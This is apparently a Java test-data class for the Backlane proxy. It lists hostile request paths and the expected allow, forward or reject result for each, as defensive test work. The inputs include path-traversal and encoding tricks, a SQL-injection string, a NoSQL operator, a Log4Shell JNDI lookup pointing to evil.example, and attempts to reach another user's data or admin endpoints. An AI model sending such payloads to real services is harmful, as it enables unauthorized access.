package dev.backlane.system.hostile;

import static dev.backlane.system.hostile.HostileInput.authorized;
import static dev.backlane.system.hostile.HostileInput.passed;
import static dev.backlane.system.hostile.HostileInput.refused;
import static dev.backlane.system.hostile.HostileInput.request;
import static dev.backlane.system.hostile.HostileInput.returned;

import java.util.ArrayList;
import java.util.List;

/// Hostile spellings of paths: an exact path of Backlane is served to the owner only, and every
/// other spelling is forwarded unchanged.
final class HostilePaths {
  private HostilePaths() {}

  static List<HostileInput> rows() {
    var rows = new ArrayList<HostileInput>();
    for (String target : ofUpstream()) {
      rows.add(passed("path: " + target, authorized("GET " + target), "GET " + target));
    }
    rows.add(
        passed("path: absolute, of another host", request("GET http://evil.example"), "GET /"));
    rows.add(
        passed(
            "path: absolute, of the upstream",
            request("GET http://evil.example//v1/background"),
            "GET //v1/background"));
    for (String target : notFound()) {
      rows.add(refused("path: " + target, authorized("GET " + target), 404, "not-found"));
    }
    for (String prefix : List.of("", "/api", "/API/controller/api", "http://evil.example")) {
      for (String rest : List.of("", "/content", "?wait=60", "#x")) {
        var target = prefix + "/v1/background/{victim}" + rest;
        rows.add(
            refused(
                "another's operation: " + target, authorized("GET " + target), 403, "forbidden"));
        rows.add(refused("no token: " + target, request("GET " + target), 401, "unauthorized"));
      }
    }
    rows.add(
        refused(
            "another's operation cannot be canceled",
            authorized("DELETE /v1/background/{victim}"),
            403,
            "forbidden"));
    rows.addAll(operators());
    return rows;
  }

  private static List<String> ofUpstream() {
    return List.of(
        "//v1/background",
        "/v1//background/{victim}",
        "/v1/%62ackground/{victim}",
        "/%76%31/background",
        "/v1%2fbackground",
        "/v1%2Fbackground%2F{victim}",
        "/V1/Background/{victim}",
        "/v1/background;a=b",
        "/v1;x/background",
        "/./v1/background",
        "/x/../v1/background/{victim}",
        "/x/..;/v1/background",
        "/%2e%2e/v1/background",
        "\\v1\\background",
        "/v1\\background",
        "v1/background",
        "/api//v1/background",
        "/api/api/v1/background",
        "/apix/v1/background",
        "/API/v1/background",
        "/api/controller/api/v1/background",
        "/v1/backgrounds",
        "/v1/background%00",
        "/?/v1/background",
        "/#/../v1/background",
        "?",
        "*",
        "evil.example:80",
        "/metrics/",
        "/metrics;x",
        "/%6detrics",
        "/METRICS",
        "//metrics",
        "/api/metrics",
        "/admin",
        "/admin/v1;x",
        "/admin/v1x",
        "/%61dmin/v1",
        "//admin/v1/subscriptions",
        "/uix",
        "/UI",
        "/health/live/..",
        "/health/live/");
  }

  private static List<String> notFound() {
    return List.of(
        "/v1/background/",
        "/v1/background//",
        "/v1/background/..;/x",
        "/v1/background/../x",
        "/v1/background/%2e%2e/x",
        "/v1/background/../../metrics",
        "/v1/background/x/{victim}",
        "/v1/background/{victim}/",
        "/v1/background/{victim};a",
        "/v1/background/{victim}%2fcontent",
        "/v1/background/{victim}/content/",
        "/v1/background/content",
        "/v1/background/content/content",
        "/v1/background/{\"id\":\"1\"}",
        "/v1/background/{\"$gt\":\"\"}",
        "/v1/background/1'or'1'='1",
        "/v1/background/${jndi:ldap://evil.example}",
        "/v1/background/%7B{victim}%7D",
        "/v1/background/" + "0".repeat(10_000),
        "/v1/background/00000000-0000-0000-0000-000000000000");
  }

  private static List<HostileInput> operators() {
    return List.of(
        refused("admin: no token", request("GET /admin/v1"), 401, "unauthorized"),
        refused(
            "admin: dot segments are not resolved",
            request("GET /admin/v1/../../v1/background"),
            401,
            "unauthorized"),
        refused(
            "admin: a caller's token",
            authorized("GET /admin/v1/subscriptions"),
            401,
            "unauthorized"),
        refused("metrics: a caller's token", authorized("GET /metrics"), 401, "unauthorized"),
        refused("metrics: no token", request("GET /metrics?x"), 401, "unauthorized"),
        refused(
            "metrics: absolute, no token", request("GET http://a@b/metrics"), 401, "unauthorized"),
        refused(
            "metrics: half of the token",
            request("GET /metrics", "Authorization: Bearer the-operators"),
            401,
            "unauthorized"),
        passed("metrics: another method", authorized("POST /metrics"), "POST /metrics"),
        returned("health needs no token", request("GET /health/live"), 200));
  }
}
